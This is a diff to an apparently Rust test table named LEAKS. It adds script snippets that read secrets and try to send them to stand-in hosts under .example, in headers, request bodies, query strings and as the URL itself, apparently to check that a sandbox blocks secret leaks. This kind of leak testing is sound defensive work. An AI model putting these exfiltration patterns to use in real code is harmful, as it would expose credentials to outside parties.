@@ -48,6 +48,11 @@ const LEAKS: &[(&str, &str)] = &[
         "GET /write",
         "let s = secret::get(\"KEY\"); kv::set(s, 1); kv::set(\"v\", s); docs::insert(\"c\", #{ s: s }); throw \"undone\"",
     ),
+    (
+        "GET /out",
+        "let s = secret::get(\"KEY\"); let n = secret::get(\"NUMBER\"); try { http::post(`http://${n}.example/${n}`, #{ headers: #{ \"x-key\": n }, text: s }) } catch (e) { log::warn(e.message); } http::get(\"http://nobody.example/\", #{ query: #{ s: s } })",
+    ),
+    ("GET /out_url", "http::get(secret::get(\"KEY\"))"),
     ("GET /refused", "kv::set(secret::get(\"KEY\"), || 1)"),
     (
         "GET /json",
